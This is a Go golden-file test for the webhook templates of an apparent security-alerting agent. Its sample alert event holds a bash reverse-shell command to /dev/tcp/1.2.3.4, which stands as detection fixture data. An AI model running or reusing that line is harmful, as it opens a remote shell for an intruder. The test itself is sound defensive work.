package webhook_test

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/daemoneye/eventbus/agent/alert"
	"github.com/daemoneye/eventbus/agent/output"
	"github.com/daemoneye/eventbus/agent/output/outputtest"
	"github.com/daemoneye/eventbus/agent/output/webhook"
)

// TestTemplates compares each form with its file in testdata. With UPDATE_GOLDEN in the
// environment it writes them.
func TestTemplates(t *testing.T) {
	var body []byte
	srv := serve(t, func(_ http.ResponseWriter, r *http.Request) { body, _ = io.ReadAll(r.Body) })
	a := outputtest.Alert(7, alert.Critical)
	a.Rule.Title, a.Rule.Description, a.Labels = "Shell <@here> & [link](http://x)", "A \"shell\" `x` *y*.", map[string]string{"env-1": "prod"}
	a.Event = []byte(`{"process":{"pid":7,"executable":"/bin/bash","command_line":"bash -i >& /dev/tcp/1.2.3.4/1 0>&1\n"},"user":{"name":"joe"}}`)
	raised, err := json.Marshal(a)
	if err != nil {
		t.Fatal(err)
	}
	a.Count = 3
	closed, err := json.Marshal(alert.Record{Seq: 9, Kind: alert.KindClosed, Time: a.Raised, Alert: a.Brief()})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range webhook.Templates() {
		for what, it := range map[string]output.Item{
			"raised": {Kind: output.KindAlert, ID: "x-7", Seq: 7, Topic: "alerts.critical", Level: alert.Critical, Time: a.Raised, Body: raised},
			"closed": {Kind: output.KindUpdate, ID: "x-9", Seq: 9, Topic: "alerts.critical", Level: alert.Critical, Time: a.Raised, Body: closed},
		} {
			s := sink(t, webhook.Options{URL: srv.URL, Template: name, Secret: "file:" + write(t, "routing-key")})
			if n, err := s.Send(t.Context(), []output.Item{it}); n != 1 || err != nil {
				t.Fatal(n, err)
			}
			var v any
			if err := json.Unmarshal(body, &v); err != nil {
				t.Fatalf("%s: %v in %s", name, err, body)
			}
			got, err := json.MarshalIndent(v, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			path := filepath.Join("testdata", name+"-"+what+".json")
			if os.Getenv("UPDATE_GOLDEN") != "" {
				if err := os.WriteFile(path, append(got, '\n'), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(got)+"\n"); diff != "" {
				t.Errorf("%s (-want +got):\n%s", path, diff)
			}
		}
	}
}
